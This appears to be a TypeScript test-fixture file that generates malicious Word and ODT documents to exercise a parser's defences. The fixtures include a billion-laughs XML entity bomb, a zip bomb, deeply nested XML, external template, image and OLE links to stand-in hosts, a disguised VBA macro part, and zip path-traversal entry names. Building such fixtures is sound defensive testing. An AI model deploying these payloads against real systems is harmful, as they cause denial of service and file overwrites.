import { Buffer } from 'node:buffer'
import { strToU8, zipSync } from 'fflate'
import { filled, type Incoming, rewritten, withParts } from './make.ts'

const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** Entities that unfold to a billion words. */
const laughs = `<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${[...'bcdefghij']
  .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
  .join('')}]>`
const laughing = (body: string): string => body.replace('?>', `?>${laughs}`).replace('>联合体名称<', '>&j;<')

const relating = (entry: string): ((part: string) => string) => {
  return (part) => part.replace('</Relationships>', `${entry}</Relationships>`)
}
const documentRelations = 'word/_rels/document.xml.rels'
const external = (kind: string, target: string): string =>
  `<Relationship Id="evil1" Type="${relation}/${kind}" Target="${target}" TargetMode="External"/>`

/** An ODT with this body and these other entries. */
function odt(body: string, others: Record<string, string> = {}, head = ''): Uint8Array {
  const files: Record<string, Uint8Array> = {
    mimetype: strToU8('application/vnd.oasis.opendocument.text'),
    'content.xml': strToU8(
      `<?xml version="1.0"?>${head}<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="x"><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
    ),
  }
  for (const [name, text] of Object.entries(others)) files[name] = strToU8(text)
  return zipSync(files, { level: 0 })
}

/** The same entry a second time, with other words: two programs would read two different forms. */
function doubled(name: string): Uint8Array {
  const good = filled(name)
  const other = 'word/documenx.xml'
  const bytes = Buffer.from(
    withParts(good, {
      [other]: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    }),
  )
  for (let at = bytes.indexOf(other); at >= 0; at = bytes.indexOf(other, at + 1))
    bytes.write('word/document.xml', at, 'latin1')
  return bytes
}

/** Hostile forms by the words of `spec/damaged-forms.md`. */
export const hostile: Record<string, (name: string) => Incoming> = {
  'DOCX 正文里的 XML 炸弹（十亿个“哈”）': (name) => ({ name: '炸弹.docx', bytes: rewritten(filled(name), laughing) }),
  'DOCX 关系部件里的 XML 炸弹': (name) => ({
    name: '炸弹二.docx',
    bytes: rewritten(filled(name), (part) => part.replace('?>', `?>${laughs}`), documentRelations),
  }),
  'ODT 里的 XML 炸弹': () => ({ name: '炸弹.odt', bytes: odt('<text:p>&j;</text:p>', {}, laughs) }),
  '嵌套三万层的 XML': (name) => ({
    name: '深.docx',
    bytes: rewritten(filled(name), (body) =>
      body.replace('<w:body>', `<w:body>${'<w:smartTag>'.repeat(30_000)}${'</w:smartTag>'.repeat(30_000)}`),
    ),
  }),
  '压缩炸弹（60 KB 解出 60 MB）': (name) => ({
    name: '压缩炸弹.docx',
    bytes: withParts(filled(name), { 'word/document.xml': new Uint8Array(60 << 20).fill(32) }),
  }),
  引用外部模板: (name) => ({
    name: '外部模板.docx',
    bytes: withParts(filled(name), {
      'word/_rels/settings.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('attachedTemplate', 'http://example.com/evil.dotm')}</Relationships>`,
    }),
  }),
  引用外部图片: (name) => ({
    name: '外部图片.docx',
    bytes: rewritten(filled(name), relating(external('image', 'file://192.0.2.1/share/a.png')), documentRelations),
  }),
  '链接外部的 OLE 对象': (name) => ({
    name: '外部对象.docx',
    bytes: rewritten(filled(name), relating(external('oleObject', 'http://example.com/a.xls')), documentRelations),
  }),
  '嵌入 OLE 对象': (name) => ({
    name: '嵌入对象.docx',
    bytes: rewritten(
      withParts(filled(name), { 'word/embeddings/oleObject1.bin': 'x' }),
      relating(`<Relationship Id="evil2" Type="${relation}/oleObject" Target="embeddings/oleObject1.bin"/>`),
      documentRelations,
    ),
  }),
  宏换了部件名: (name) => ({
    name: '改名的宏.docx',
    bytes: rewritten(
      withParts(filled(name), { 'word/picture1.bin': 'x' }),
      (part) =>
        part.replace(
          '</Types>',
          '<Override PartName="/word/picture1.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
      '[Content_Types].xml',
    ),
  }),
  'ODT 里的宏': () => ({
    name: '宏.odt',
    bytes: odt('<text:p>联合体名称</text:p>', { 'Basic/Standard/Module1.xml': '<x/>' }),
  }),
  '压缩包条目名带路径（../../）': (name) => ({
    name: '路径.docx',
    bytes: withParts(filled(name), { '../../evil.txt': 'x', '/tmp/gongwen-evil.txt': 'x', 'C:\\evil.txt': 'x' }),
  }),
  两个同名的正文部件: (name) => ({ name: '同名.docx', bytes: doubled(name) }),
}
